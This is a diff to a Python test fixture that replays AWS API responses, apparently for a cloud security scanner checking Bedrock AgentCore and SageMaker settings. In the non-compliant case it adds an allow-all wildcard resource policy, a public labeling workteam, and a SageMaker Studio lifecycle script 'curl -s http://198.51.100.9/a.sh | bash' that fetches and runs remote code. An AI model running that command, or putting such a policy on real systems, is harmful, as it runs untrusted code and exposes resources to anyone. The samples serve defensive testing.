@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from typing import Any
 
 from aws_replay import WHEN, Answers
@@ -12,6 +13,7 @@ ROLE = "arn:aws:iam::123456789012:role/exec"
 _CORE = f"arn:aws:bedrock-agentcore:{_HERE}:"
 _TIMES = {"createdAt": WHEN, "updatedAt": WHEN}
 _CREATED = {"createdAt": WHEN, "lastUpdatedAt": WHEN}
+_POLICY = '{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}'
 _MANY = {"InstanceCount": 2, "InstanceType": "ml.m5.large", "VolumeSizeInGB": 10}
 
 
@@ -22,6 +24,7 @@ def recorded(*, kept: bool) -> Answers:
         **_agents(kept=kept),
         **_core(kept=kept),
         **_sagemaker(kept=kept),
+        **_people(kept=kept),
         **_search(kept=kept),
     }
 
@@ -140,6 +143,7 @@ def _core(*, kept: bool) -> dict[tuple[str, str], Any]:
         (service, "GetCodeInterpreter"): {**runner, **_CREATED, **open_network},
         (service, "ListGateways"): {"items": [gateway]},
         (service, "GetGateway"): whole,
+        (service, "GetResourcePolicy"): {"policy": _POLICY if not kept else '{"Statement": []}'},
         (service, "ListGatewayTargets"): {"items": []},
     }
 
@@ -180,6 +184,41 @@ def _sagemaker(*, kept: bool) -> dict[tuple[str, str], Any]:
             **lab, "DirectInternetAccess": off, "RootAccess": off,
             "PlatformIdentifier": "notebook-al2023-v1" if kept else "notebook-al2-v2",
             **({"SubnetId": "subnet-1", "KmsKeyId": KEY} if kept else {}),
+        },
+    }  # fmt: skip
+
+
+def _people(*, kept: bool) -> dict[tuple[str, str], Any]:
+    """People who label, and a workspace whose users start with a script."""
+    arn = f"arn:aws:sagemaker:{_HERE}:"
+    team = "123456789012:workteam/private-crowd/desk" if kept else "394669845002:workteam/public-crowd/default"
+    labelled = {"LabelingJobName": "tickets", "LabelingJobArn": f"{arn}labeling-job/tickets", "CreationTime": WHEN,
+                "LastModifiedTime": WHEN, "LabelingJobStatus": "InProgress", "LabelCounters": {}}  # fmt: skip
+    crowd = f"arn:aws:sagemaker:eu-west-1:{team}"
+    task = {"WorkteamArn": crowd, "UiConfig": {}, "TaskTitle": "t", "TaskDescription": "d",
+            "NumberOfHumanWorkersPerDataObject": 1, "TaskTimeLimitInSeconds": 60}  # fmt: skip
+    output = {"S3OutputPath": "s3://labels/", "KmsKeyId": KEY}
+    script = "pip list" if kept else "curl -s http://198.51.100.9/a.sh | bash"
+    started = {
+        "StudioLifecycleConfigName": "prepare",
+        "StudioLifecycleConfigArn": f"{arn}studio-lifecycle-config/prepare",
+    }
+    studio = {"DomainId": "d-1", "DomainName": "bench", "DomainArn": f"{arn}domain/d-1"}
+    settings = {"JupyterServerAppSettings": {"LifecycleConfigArns": [started["StudioLifecycleConfigArn"]]}}
+    return {
+        ("sagemaker", "ListLabelingJobs"): {"LabelingJobSummaryList": [{**labelled, "WorkteamArn": crowd}]},
+        ("sagemaker", "DescribeLabelingJob"): {
+            **labelled, "JobReferenceCode": "r", "RoleArn": ROLE, "HumanTaskConfig": task, "OutputConfig": output,
+            "InputConfig": {"DataSource": {"S3DataSource": {"ManifestS3Uri": "s3://tickets/m"}}},
+        },
+        ("sagemaker", "ListStudioLifecycleConfigs"): {"StudioLifecycleConfigs": [started]},
+        ("sagemaker", "DescribeStudioLifecycleConfig"): {
+            **started, "StudioLifecycleConfigContent": base64.b64encode(script.encode()).decode(),
+        },
+        ("sagemaker", "ListDomains"): {"Domains": [studio]},
+        ("sagemaker", "DescribeDomain"): {
+            **studio, "AuthMode": "SSO", "AppNetworkAccessType": "VpcOnly", "KmsKeyId": KEY,
+            "DefaultUserSettings": settings,
         },
     }  # fmt: skip
 
